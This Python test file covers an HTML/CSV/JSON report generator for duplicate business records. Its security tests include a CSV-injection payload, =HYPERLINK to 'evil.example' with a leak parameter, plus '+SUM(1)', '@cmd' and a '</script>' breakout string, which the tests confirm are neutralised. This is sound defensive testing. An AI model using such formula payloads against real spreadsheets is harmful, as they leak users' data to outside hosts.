"""The report files: items best first, records side by side, safe embedding, CSV and JSON exports."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

from enricher.matching import match
from enricher.records import Counterparty
from enricher.review import (
    branding_health,
    build_report_data,
    fingerprint,
    logo_reasons,
    read_enrichment_summary,
    write_report,
)
from review._data import CONTRACT, REGISTER, big, records


def _embedded(html: str) -> dict:
    found = re.search(r'<script type="application/json" id="report-data">(.*?)</script>', html, re.S)
    assert found, "the report data is not embedded"
    return json.loads(found.group(1))


def test_items_are_clusters_and_loose_pairs_best_first() -> None:
    data = build_report_data(CONTRACT, records(), generated_at="2026-01-01T00:00:00Z")
    items = data.items
    ids = [[data.records[i]["id"] for i in it["r"]] for it in items]
    # Survivor first, then the others by id; clusters hold their pairs; (8, 10) stands alone, with
    # matching's survivor rule: 10 ("Umbrella SARL") also knows a legal form, so it is more complete.
    assert ids == [[7, 1, 9], [3, 4], [5, 6], [10, 8]]
    assert [it["kind"] for it in items] == ["cluster", "pair", "pair", "pair"]
    assert [it["rank"] for it in items] == [1, 2, 3, 4]
    assert items[0]["score"] == 0.99 and items[0]["min"] == 0.97 and items[0]["band"] == "merge"
    assert items[2]["band"] == "review"
    assert len(items[0]["pairs"]) == 2
    assert items[0]["cc"] == ["PL"] and items[1]["cc"] == ["DE"]
    # The loose pair's survivor is the more complete record (matching's count: 10 names its legal form).
    assert data.records[items[3]["sv"]]["id"] == 10
    # Evidence explanations are interned, weights kept.
    feature, result, weight, text = items[0]["pairs"][0]["ev"][0]
    assert (feature, result, weight, data.texts[text]) == (
        "tin",
        "equal",
        9.5,
        "Both records carry the same tax id.",
    )
    assert data.stats["candidates"] == 5 and data.stats["merge"] == 3


def test_records_carry_the_fingerprint_apply_compares() -> None:
    recs = records()
    data = build_report_data(CONTRACT, recs, generated_at="t")
    by_id = {r["id"]: r for r in data.records}
    for record_id, entry in by_id.items():
        assert entry["fp"] == fingerprint(recs[record_id])
    # Branding changes do not change the fingerprint; identity changes do.
    one = REGISTER[0]
    assert fingerprint({**one, "logoUrl": "https://x.example/l.png", "displayName": "ACME"}) == fingerprint(
        one
    )
    assert fingerprint({**one, "name": "Acme Two"}) != fingerprint(one)
    assert fingerprint({**one, "country": "/countries/PL"}) == fingerprint({**one, "country": "PL"})


def test_a_candidate_whose_record_is_missing_is_shown_but_has_no_fingerprint() -> None:
    recs = records()
    del recs[10]
    data = build_report_data(CONTRACT, recs, generated_at="t")
    entry = next(r for r in data.records if r["id"] == 10)
    assert entry == {"id": 10, "missing": True}


def test_write_report_writes_three_self_contained_files(tmp_path: Path) -> None:
    recs = records()
    health = branding_health(recs.values())
    paths = write_report(
        CONTRACT, recs, tmp_path / "out", branding=health, generated_at="2026-01-01T00:00:00Z"
    )
    assert [p.name for p in paths] == ["review.html", "candidates.csv", "candidates.json"]
    html = paths.html.read_text(encoding="utf-8")
    # No external script, style, font or frame: nothing with src/href pointing elsewhere in the markup.
    assert not re.search(r"<(script|link|iframe)[^>]+(src|href)=", html)
    assert "Content-Security-Policy" in html and "default-src 'none'" in html
    # A record named "</script><b>x</b>" cannot break out of the data block.
    assert "</script><b>" not in html
    data = _embedded(html)
    assert data["format"] == "enricher.review-report" and data["version"] == 1
    assert any(r.get("f", {}).get("name", "").startswith("=HYPERLINK") for r in data["records"])
    assert data["branding"]["total"] == len(REGISTER)


def test_csv_has_one_row_per_candidate_and_neutralises_formulas(tmp_path: Path) -> None:
    paths = write_report(CONTRACT, records(), tmp_path, generated_at="t")
    raw = paths.csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "spreadsheets need the BOM to read UTF-8"
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert len(rows) == len(CONTRACT["candidates"])
    assert [(r["a"], r["b"]) for r in rows][:2] == [("1", "9"), ("1", "7")]
    evil = next(r for r in rows if r["a"] == "8")
    assert evil["a_name"].startswith("'=HYPERLINK")
    assert evil["score"] == "0.5500" and evil["band"] == "review"
    assert "Same city." in evil["explanations"]
    assert rows[0]["a_fingerprint"].startswith("v1:")


def test_json_export_is_the_contract_plus_records(tmp_path: Path) -> None:
    paths = write_report(CONTRACT, records(), tmp_path, generated_at="t")
    data = json.loads(paths.json.read_text(encoding="utf-8"))
    assert data["candidates"] == CONTRACT["candidates"]
    assert data["clusters"] == CONTRACT["clusters"]
    by_id = {r["id"]: r for r in data["records"]}
    assert by_id[7]["name"] == "ACME sp. z o. o." and by_id[7]["fingerprint"].startswith("v1:")
    assert data["reportId"] and data["generatedAt"] == "t"


def test_the_report_takes_a_real_match_result(tmp_path: Path) -> None:
    recs = records()
    result = match(list(recs.values()))
    paths = write_report(result, recs, tmp_path, generated_at="t")
    data = _embedded(paths.html.read_text(encoding="utf-8"))
    groups = [sorted(data["records"][i]["id"] for i in it["r"]) for it in data["items"]]
    assert [1, 7, 9] in groups
    assert all(data["texts"][e[3]] for it in data["items"] for p in it["pairs"] for e in p["ev"])


def test_branding_health_counts_and_reads_the_last_enrichment(tmp_path: Path) -> None:
    recs = [
        Counterparty(id=1, logoUrl="https://a/l.png", displayName="A", corporateWebsiteUrl="https://a"),
        Counterparty(id=2, corporateWebsiteUrl="https://b"),
        Counterparty(id=3, displayName=" "),
        Counterparty(id=4),
    ]
    summary = tmp_path / "enrichment.json"
    records = [
        {"id": 1, "status": "filled", "patch": {"logoUrl": "u", "displayName": "A"}, "applied": True},
        {"id": 2, "status": "filled", "patch": {"logoUrl": "v"}, "applied": True},
        {"id": 3, "status": "filled", "patch": {"displayName": "C"}, "applied": False},  # a dry run's
        {"id": 4, "status": "failed", "patch": {}},
    ]
    summary.write_text(
        json.dumps({"filled": 12, "failed": [{"id": 1}] * 30, "at": "now", "records": records}),
        encoding="utf-8",
    )
    health = branding_health(recs, last_enrichment=read_enrichment_summary(summary))
    assert (health["total"], health["withLogo"], health["withDisplayName"], health["withWebsite"]) == (
        4,
        1,
        1,
        2,
    )
    assert health["fillable"] == 1 and health["shareLogo"] == 0.25
    assert health["lastEnrichment"]["filled"] == 12
    assert (
        health["lastEnrichment"]["failed"]["count"] == 30
        and len(health["lastEnrichment"]["failed"]["first"]) == 5
    )
    assert health["lastEnrichment"]["filledFields"] == {"logoUrl": 2, "displayName": 1}
    assert health["lastEnrichment"]["records"]["count"] == 4
    assert read_enrichment_summary(tmp_path / "absent.json") is None


def test_ten_thousand_candidates_make_a_report_of_sane_size(tmp_path: Path) -> None:
    contract, recs = big(10_000)
    models = {r["id"]: Counterparty.model_validate(r) for r in recs}
    paths = write_report(contract, models, tmp_path, generated_at="t")
    data = _embedded(paths.html.read_text(encoding="utf-8"))
    assert sum(len(it["pairs"]) for it in data["items"]) == 10_000
    assert paths.html.stat().st_size < 15_000_000


# --- issue 11 -----------------------------------------------------------------------------------


def _colliding() -> tuple[dict, dict]:
    """Ids with "|" in them: joined with "|", both pairs used to get the key "s:p|s:q|s:r"."""
    recs = {i: Counterparty(id=i, name=f"Firma {n}") for n, i in enumerate(["p", "q|s:r", "p|s:q", "r"])}
    contract = {
        "candidates": [
            {"a": "p", "b": "q|s:r", "score": 0.9, "band": "review", "evidence": []},
            {"a": "p|s:q", "b": "r", "score": 0.8, "band": "review", "evidence": []},
        ],
        "clusters": [],
    }
    return contract, recs


def test_item_keys_cannot_collide() -> None:
    contract, recs = _colliding()
    data = build_report_data(contract, recs, generated_at="t")
    keys = [it["key"] for it in data.items]
    assert len(set(keys)) == 2, keys
    # The key is the sorted ids as JSON: unambiguous whatever the ids hold.
    assert [json.loads(k) for k in keys] == [["p", "q|s:r"], ["p|s:q", "r"]]


def test_every_csv_cell_from_a_record_is_neutralised(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    recs = {
        formula: Counterparty(id=formula, name="Evil One"),
        "+SUM(1)": Counterparty(id="+SUM(1)", name="Evil Two", tin="@cmd"),
    }
    contract = {
        "candidates": [{"a": formula, "b": "+SUM(1)", "score": 0.9, "band": "merge", "evidence": []}],
        "clusters": [{"ids": [formula, "+SUM(1)"], "survivor": formula}],
    }
    paths = write_report(contract, recs, tmp_path, generated_at="t")
    rows = list(csv.reader(paths.csv.read_bytes().decode("utf-8-sig").splitlines()))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["a"] == "'" + formula and row["b"] == "'+SUM(1)" and row["survivor"] == "'" + formula


def test_the_page_loads_nothing_from_the_network(tmp_path: Path) -> None:
    """Remote logos are not <img> sources and the CSP allows images from data: only."""
    recs = records()
    recs[3] = recs[3].model_copy(update={"logoUrl": "http://internal-host/x.png?id=7"})
    html = write_report(CONTRACT, recs, tmp_path, generated_at="t").html.read_text(encoding="utf-8")
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html)
    assert csp, "no CSP"
    img = next(d for d in csp.group(1).split(";") if d.strip().startswith("img-src")).split()[1:]
    assert img == ["data:"], csp.group(1)
    for directive in csp.group(1).split(";"):
        assert "http" not in directive and "*" not in directive, directive


def enrichment_with_logo_reasons(path: Path, logo: str) -> Path:
    """An ``enrichment.json`` whose record 7 got ``logo`` with its reasons (and record 1 another logo)."""
    reasons = [
        {
            "hint": "page",
            "points": 38.7,
            "why": "What the page says about it scored 0.86: marked as a logo (+16).",
        },
        {"hint": "size", "points": 15.0, "why": "Downloaded 240x80 pixels."},
    ]
    records = [
        {"id": 7, "status": "filled", "applied": True, "patch": {"logoUrl": logo},
         "provenance": [{"field": "logoUrl", "value": logo, "signal": "img", "page": "https://acme.example/",
                         "reasons": reasons}]},
        {"id": 1, "status": "filled", "applied": True, "patch": {"logoUrl": "https://x/l.png"},
         "provenance": [{"field": "logoUrl", "value": "https://x/l.png", "reasons": reasons}]},
    ]  # fmt: skip
    path.write_text(json.dumps({"records": records}), encoding="utf-8")
    return path


def test_logo_reasons_only_for_logos_still_as_enrichment_left_them(tmp_path: Path) -> None:
    recs = records()
    logo = recs[7].logoUrl
    assert logo
    found = logo_reasons(enrichment_with_logo_reasons(tmp_path / "enrichment.json", logo), recs.values())
    assert list(found) == ["7"]  # record 1's logo was changed (to none) since: not ours to explain
    assert found["7"]["signal"] == "img" and found["7"]["reasons"][0]["points"] == 38.7
    assert logo_reasons(tmp_path / "missing.json", recs.values()) == {}


def test_the_report_proposes_the_survivor_matching_would() -> None:
    """Issue 13: one survivor rule. A record with a valid tax id survives a more complete one without,
    in the report's own choice (a pair without a cluster) exactly as in matching's clusters."""
    from enricher.matching import prepare, survivor
    from enricher.review import pick_survivor

    with_tin = Counterparty(id=9, name="Acme Sp. z o.o.", tin="1234563218", tinCountry="PL")
    complete = Counterparty(
        id=2,
        name="ACME sp. z o.o.",
        addressStreetLine="Prosta 1",
        addressPostCode="00-001",
        addressCity="Warszawa",
        country="PL",
        addressPhoneNumber="+48 22 100 20 30",
        corporateWebsiteUrl="https://acme.pl",
        displayName="Acme",
        logoUrl="https://acme.pl/logo.png",
    )
    records = {9: with_tin, 2: complete}
    assert survivor([prepare(with_tin), prepare(complete)]) == 9
    assert pick_survivor([2, 9], records) == 9
    # Without a valid tax id on either side, the more complete record; among equals the lowest id.
    plain = Counterparty(id=1, name="Acme")
    assert pick_survivor([1, 2], {1: plain, 2: complete}) == 2
    assert pick_survivor([5, "a", 4], {}) == 4
